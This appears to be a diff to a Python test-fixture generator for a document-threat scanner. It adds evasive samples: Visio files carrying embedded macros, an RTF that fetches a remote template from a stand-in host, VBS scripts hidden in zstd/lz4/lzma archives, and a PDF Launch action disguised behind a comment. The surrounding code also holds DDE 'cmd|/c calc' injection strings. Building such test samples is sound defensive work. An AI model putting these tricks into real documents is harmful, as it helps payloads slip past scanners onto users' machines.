@@ -251,6 +251,10 @@ def _flat() -> Iterator[_Made]:
         "field": doc.word_field("DDE cmd x"),
     }.items():
         yield f"2003-{what}/letter.xml", doc.word_2003(body)
+    for what, tag, content in (("macro", "VBProjectData", doc.macro_project()), ("package", "ForeignData", package)):
+        body = f"<{tag}>{doc.base64_text(content)}</{tag}>"
+        drawing = f'<VisioDocument xmlns="http://schemas.microsoft.com/visio/2003/core">{body}</VisioDocument>'
+        yield f"visio-{what}/plan.vdx", b'<?xml version="1.0"?>' + drawing.encode()
     link = "<ExcelWorkbook><SupBook><Path>cmd|/c calc.exe</Path></SupBook></ExcelWorkbook>"
     cell = "<Worksheet><Table><Row><Cell ss:Formula=\"=cmd|'/c calc'!A1\"/></Row></Table></Worksheet>"
     name = '<Names><NamedRange ss:Name="a" ss:RefersTo="=cmd|\'/c calc\'!A1"/></Names>'
@@ -368,6 +372,7 @@ def _rich() -> Iterator[_Made]:
         "share": "\\'5c\\'5c192.0.2.1\\'5cs",
     }.items():
         yield f"{what}/letter.rtf", doc.rtf_bytes(before="{\\*\\template " + address + "//x.example/t.dotm}")
+    yield "bare/letter.rtf", doc.rtf_bytes(before="{\\template http://x.example/t.dotm}")
     link = doc.ole_bytes({"\x01Ole": b"x"}, bytes.fromhex("0003000000000000c000000000000046"))
     yield "link/letter.docx", doc.ooxml_bytes([("word/embeddings/oleObject1.bin", link)])
     yield "link/letter.rtf", doc.rtf_bytes([doc.ole1_object("Anything", link)])
@@ -456,6 +461,10 @@ def _streams() -> Iterator[_Made]:
         "dat": pack.gzip_bytes(SCRIPT),
     }.items():
         yield f"{suffix}/invoice.vbs.{suffix}", packed
+    skipped = b"\x50\x2a\x4d\x18\x04\x00\x00\x00abcd"
+    for suffix in ("zst", "tzst", "lz4"):
+        yield f"skipped-{suffix}/invoice.vbs.{suffix}", skipped + pack.zstd_bytes(SCRIPT)
+    yield "other-properties/invoice.vbs.lzma", pack.lzma_bytes(SCRIPT).replace(b"]", b"<", 1)
     text = pack.gzip_bytes(TEXT[1], TEXT[0])
     yield "two/papers.gz", text + pack.gzip_bytes(EXE, "notes.txt")
     yield "three/papers.gz", text + pack.gzip_bytes(b"x", "b.txt") + pack.gzip_bytes(b"MZ\x90\x00" + EXE, "c.dat")
@@ -482,4 +491,5 @@ def _spelled() -> Iterator[_Made]:
         (b"/Filter", b"/Fil#74er"),
     ):
         yield f"{new.decode()[1:].replace('#', '')}/paper.pdf", whole.replace(old, new)
+    yield "launch-comment/paper.pdf", doc.pdf_bytes(launch=True).replace(b"/Launch", b"% (\n/Launch")
     yield "launch/paper.pdf", doc.pdf_bytes(launch=True).replace(b"/Launch", b"/L#61unch")
